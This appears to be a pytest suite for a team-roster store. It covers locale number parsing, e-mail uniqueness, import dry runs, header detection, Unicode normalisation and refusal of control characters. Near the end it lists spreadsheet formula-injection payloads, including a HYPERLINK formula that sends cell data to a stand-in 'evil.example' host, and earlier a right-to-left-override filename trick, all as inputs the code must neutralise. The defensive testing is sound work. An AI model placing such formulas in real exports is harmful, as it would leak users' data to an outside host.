"""Issue 9, data integrity: numbers in every locale, e-mails unique per organisation, what an
import changes, header rows, files that are not tables, Unicode and control characters, one
rule per person field whatever the door, and exports no spreadsheet runs as formulas.
Every test runs on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import itertools
import unicodedata
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gputeam.store import (
    Database,
    ImportRejected,
    StoreError,
    add_person,
    create_organisation,
    export_csv,
    export_data,
    export_xlsx,
    get_person_by_key,
    import_roster,
    list_people,
    update_person,
)

_orgs = itertools.count()


def _people(db: Database, org_id: int) -> dict[str, Any]:
    with db.session() as s:
        return {p.key: p for p in list_people(s, org_id, active=None)}


def _xlsx(rows: list[list[Any]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# ---------------------------------------------------------------- numbers
def test_dot_groups_in_a_semicolon_file_are_thousands(db: Database, org_id: int) -> None:
    """A ';'-separated (German Excel) roster writes 92.500 for 92500: not 92.5."""
    text = "id;name;salary;weekly_study_hours\np1;Ana;92.500;4,5\np2;Bo;85.000;6\np3;Cy;1.234.567,89;3\n"
    with db.session() as s:
        import_roster(s, org_id, text.encode(), filename="de.csv")
    people = _people(db, org_id)
    assert people["p1"].salary == 92500 and people["p2"].salary == 85000
    assert people["p3"].salary == pytest.approx(1234567.89)
    assert people["p1"].weekly_study_hours == 4.5


@pytest.mark.parametrize("written", ["1.500", "12,345"])
def test_ambiguous_number_in_an_unknown_locale_is_refused(db: Database, org_id: int, written: str) -> None:
    """An XLSX text cell (its locale unknown) '1.500' is 1.5 or 1500: refused, naming row
    and column, instead of guessed."""
    book = _xlsx([["id", "name", "Salary"], ["p1", "Ana", 1500], ["p2", "Bo", written]])
    with pytest.raises(ImportRejected) as info, db.session() as s:
        import_roster(s, org_id, book, filename="r.xlsx")
    [problem] = info.value.problems
    assert (problem.line, problem.path) == (3, "Salary")
    assert "ambiguous" in problem.message
    assert _people(db, org_id) == {}


# (thousands separator, decimal mark) as spreadsheets write them per locale
LOCALES = [
    (".", ","),
    (",", "."),
    (" ", ","),
    ("\u00a0", ","),
    ("\u202f", ","),
    ("'", "."),
    ("\u2019", "."),
    ("", ","),
    ("", "."),
]


def _grouped(whole: int, sep: str) -> str:
    digits = str(whole)
    head = len(digits) % 3 or 3
    return sep.join([digits[:head]] + [digits[i : i + 3] for i in range(head, len(digits), 3)])


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.tuples(st.integers(0, 10**8), st.integers(0, 99), st.booleans()), min_size=1, max_size=5),
    st.sampled_from(LOCALES),
    st.sampled_from(["csv", "xlsx"]),
)
def test_locale_numbers_round_trip_through_import_and_export(
    db: Database, values: list[tuple[int, int, bool]], locale: tuple[str, str], export_as: str
) -> None:
    """Property: a salary written the way a spreadsheet of any locale writes it (thousands
    grouped by '.', ',', space, no-break or narrow no-break space, apostrophe; decimal
    point or comma; with or without decimals) in a CSV of that locale (';' where the comma
    is the decimal mark) imports as its value; the export (CSV or XLSX) imports back with
    nothing changed."""
    thousands, mark = locale
    delimiter = ";" if mark == "," else ","
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\n")
    writer.writerow(["id", "name", "salary"])
    expected = {}
    for i, (whole, cents, decimals) in enumerate(values):
        written = _grouped(whole, thousands) + (f"{mark}{cents:02d}" if decimals else "")
        writer.writerow([f"p{i}", f"Person {i}", written])
        expected[f"p{i}"] = whole + (cents / 100 if decimals else 0)
    with db.session() as s:
        org = create_organisation(s, f"Locale {next(_orgs)}").id
        import_roster(s, org, buf.getvalue().encode(), filename="locale.csv")
    assert {k: p.salary for k, p in _people(db, org).items()} == pytest.approx(expected)
    with db.session() as s:
        exported: Any = (
            export_csv(s, org)["people.csv"].encode() if export_as == "csv" else export_xlsx(s, org)
        )
        before = export_data(s, org, include_audit=False)
    with db.session() as s:
        report = import_roster(
            s, org, exported, filename=f"people.{export_as}", sheet="people" if export_as == "xlsx" else None
        )
    assert (report.created, report.updated, report.unchanged) == (0, 0, len(values))
    with db.session() as s:
        assert export_data(s, org, include_audit=False) == before


# ---------------------------------------------------------------- e-mail
def test_email_is_unique_per_organisation_ignoring_case(db: Database, org_id: int) -> None:
    with db.session() as s:
        add_person(s, org_id, key="p1", name="Ana", email="ana@example.org")
        bo = add_person(s, org_id, key="p2", name="Bo", email="bo@example.org").id
        other = create_organisation(s, "Other").id
        add_person(s, other, key="x1", name="Ana elsewhere", email="ANA@example.org")
    for attempt in (
        lambda s: add_person(s, org_id, key="p3", name="C", email="Ana@Example.org"),
        lambda s: update_person(s, bo, {"email": "ANA@EXAMPLE.ORG"}),
    ):
        with pytest.raises(StoreError) as info, db.session() as s:
            attempt(s)
        assert info.value.problems[0].path == "person.email"
        assert "p1" in info.value.problems[0].message
    with db.session() as s:  # keeping one's own address, in another case, is no clash
        update_person(s, bo, {"email": "Bo@example.org"})


def test_import_refuses_an_email_twice(db: Database, org_id: int) -> None:
    with db.session() as s:
        add_person(s, org_id, key="p1", name="Ana", email="ana@example.org")
        add_person(s, org_id, key="p2", name="Bo", email="bo@example.org")
    twice = "id,name,E-mail\nn1,New,new@example.org\nn2,Newer,NEW@example.org\n"
    stored = "id,name,E-mail\nn3,Third,ANA@example.org\n"
    for text, lines in ((twice, [2, 3]), (stored, [2])):
        with pytest.raises(ImportRejected) as info, db.session() as s:
            import_roster(s, org_id, text.encode(), filename="r.csv")
        assert [(p.line, p.path) for p in info.value.problems] == [(n, "E-mail") for n in lines]
    swap = "id,email\np1,bo@example.org\np2,ana@example.org\n"  # clashes only halfway
    with db.session() as s:
        import_roster(s, org_id, swap.encode(), filename="swap.csv")
    assert _people(db, org_id)["p1"].email == "bo@example.org"


# ---------------------------------------------------------------- what an import changes
def test_dry_run_lists_each_change_and_the_import_counts_people_changed(db: Database, org_id: int) -> None:
    with db.session() as s:
        import_roster(
            s,
            org_id,
            b"id,name,level,team,linux\np1,Ana,2,Ops,1\np2,Bo,3,Ops,2\np3,Cy,1,,\n",
            filename="r.csv",
        )
    change = b"id,name,level,team,linux\np1,Ana Lima,2,Fabric,1\np2,Bo,4,Ops,3\np3,Cy,1,,\n"
    with db.session() as s:
        dry = import_roster(s, org_id, change, filename="c.csv", dry_run=True)
    assert (dry.created, dry.updated, dry.unchanged) == (0, 2, 1)
    seen = {(c["row"], c["id"], c["field"], c["old"], c["new"]) for c in dry.changes}
    assert seen == {
        (2, "p1", "name", "Ana", "Ana Lima"),
        (2, "p1", "team", "Ops", "Fabric"),
        (3, "p2", "level", 3, 4),
        (3, "p2", "skill:linux", 2, 3),
    }
    assert _people(db, org_id)["p1"].name == "Ana"  # the dry run wrote nothing
    with db.session() as s:
        done = import_roster(s, org_id, change, filename="c.csv")
    assert done.updated == 2 and done.changes == dry.changes
    people = _people(db, org_id)
    assert (people["p1"].name, people["p2"].level) == ("Ana Lima", 4)


# ---------------------------------------------------------------- header rows and file kinds
def test_xlsx_with_a_title_row_finds_its_header(db: Database, org_id: int) -> None:
    book = _xlsx(
        [["GPU team roster \u2013 exported 2026-12-01"], [], ["id", "name", "level"], ["p1", "Ana", 2]]
    )
    with db.session() as s:
        report = import_roster(s, org_id, book, filename="r.xlsx")
    assert report.created == 1 and any("row 3" in n for n in report.notes)
    assert _people(db, org_id)["p1"].level == 2


def test_header_row_can_be_given_and_the_error_says_so(db: Database, org_id: int) -> None:
    # a title, then a header whose columns the importer does not know: nothing to find
    book = _xlsx([["GPU team roster"], ["Personalnummer", "Vollständiger Name"], ["p1", "Ana"]])
    with pytest.raises(ImportRejected) as info, db.session() as s:
        import_roster(s, org_id, book, filename="r.xlsx")
    assert any("--header-row" in (p.hint or "") for p in info.value.problems)
    with db.session() as s:
        report = import_roster(
            s,
            org_id,
            book,
            filename="r.xlsx",
            header_row=2,
            mapping={"Personalnummer": "id", "Vollständiger Name": "name"},
        )
    assert report.created == 1 and _people(db, org_id)["p1"].name == "Ana"
    with pytest.raises(ImportRejected) as info, db.session() as s:
        import_roster(s, org_id, book, filename="r.xlsx", header_row=9)
    assert "row 9" in info.value.problems[0].message


@pytest.mark.parametrize(
    "data", [b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), bytes(range(256)) * 4]
)
def test_binary_file_renamed_csv_is_not_a_csv(db: Database, org_id: int, data: bytes) -> None:
    with pytest.raises(ImportRejected) as info, db.session() as s:
        import_roster(s, org_id, data, filename="roster.csv")
    [problem] = info.value.problems
    assert problem.message.startswith("not a CSV or XLSX file")


# ---------------------------------------------------------------- Unicode and controls
def test_text_is_stored_in_nfc(db: Database, org_id: int) -> None:
    decomposed = unicodedata.normalize("NFD", "mü1")
    assert decomposed != "mü1"
    with db.session() as s:
        add_person(s, org_id, key=decomposed, name=unicodedata.normalize("NFD", "Zoë"))
    with db.session() as s:
        p = get_person_by_key(s, org_id, "mü1")
        assert p is not None and p.name == "Zoë"
        report = import_roster(s, org_id, f"id,level\n{decomposed},3\n".encode(), filename="r.csv")
    assert (report.created, report.updated) == (0, 1)


@pytest.mark.parametrize(
    "bad", ["Nul\x00", "Two\nlines", "Car\rriage", "evil\u202eexe.txt", "bell\x07", "iso\u2066late"]
)
def test_control_characters_are_refused_naming_the_field(db: Database, org_id: int, bad: str) -> None:
    with pytest.raises(StoreError) as info, db.session() as s:
        add_person(s, org_id, key="p1", name="Ana", title=bad)
    assert [p.path for p in info.value.problems] == ["person.title"]
    text = io.StringIO()
    csv.writer(text).writerows([["id", "name", "Job title"], ["p1", "Ana", bad]])
    with pytest.raises(ImportRejected) as rejected, db.session() as s:
        import_roster(s, org_id, text.getvalue().encode(), filename="r.csv")
    assert [(p.line, p.path) for p in rejected.value.problems] == [(2, "Job title")]
    assert _people(db, org_id) == {}


def test_team_names_are_one_line_of_nfc_text(db: Database, org_id: int) -> None:
    from gputeam.store import create_team

    for bad in ("Ops\nDev", "Nul\x00", "\u202eevil", " "):
        with pytest.raises(StoreError) as info, db.session() as s:
            create_team(s, org_id, bad)
        assert info.value.problems[0].path == "team.name"
    with db.session() as s:
        assert create_team(s, org_id, unicodedata.normalize("NFD", "Zürich")).name == "Zürich"


def test_every_person_rule_is_the_stores(db: Database, org_id: int) -> None:
    """The importer and the store refuse the same values (the API and form: tests/web)."""
    from gputeam.store.person_rules import NUMBER_RULES

    for name, rule in NUMBER_RULES.items():
        for value in (rule.low - 1, rule.high + 1):
            with pytest.raises(StoreError) as info, db.session() as s:
                add_person(s, org_id, key="p1", name="Ana", **{name: value})
            assert info.value.problems[0].path == f"person.{name}"
            shown = str(int(value)) if rule.whole else f"{value:.1f}"
            with pytest.raises(ImportRejected) as rejected, db.session() as s:
                import_roster(s, org_id, f"id,name,{name}\np1,Ana,{shown}\n".encode(), filename="r.csv")
            assert [(p.line, p.path) for p in rejected.value.problems] == [(2, name)]
    assert _people(db, org_id) == {}


# ---------------------------------------------------------------- formulas in exports
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "-lead", "=1+1"]


def test_exports_never_hold_a_formula_and_import_back_unchanged(db: Database, org_id: int) -> None:
    from openpyxl import load_workbook

    with db.session() as s:
        for i, name in enumerate(FORMULAS[:5]):
            add_person(s, org_id, key=f"f{i}", name=name, title=FORMULAS[5])
        files = export_csv(s, org_id)
        book = export_xlsx(s, org_id)
        before = export_data(s, org_id, include_audit=False)
    rows = list(csv.reader(io.StringIO(files["people.csv"])))
    for row in rows[1:]:
        assert row[1].startswith("'") and row[3] == "'=1+1"
    ws = load_workbook(io.BytesIO(book))["people"]  # formulas kept as formulas if any
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert {c.value for c in cells} >= set(FORMULAS)
    assert all(c.data_type == "s" for c in cells)
    for name, data in (("people.csv", files["people.csv"].encode()), ("all.xlsx", book)):
        with db.session() as s:
            report = import_roster(
                s, org_id, data, filename=name, sheet="people" if name.endswith("xlsx") else None
            )
        assert report.unchanged == 5 and report.updated == 0
        with db.session() as s:
            assert export_data(s, org_id, include_audit=False) == before
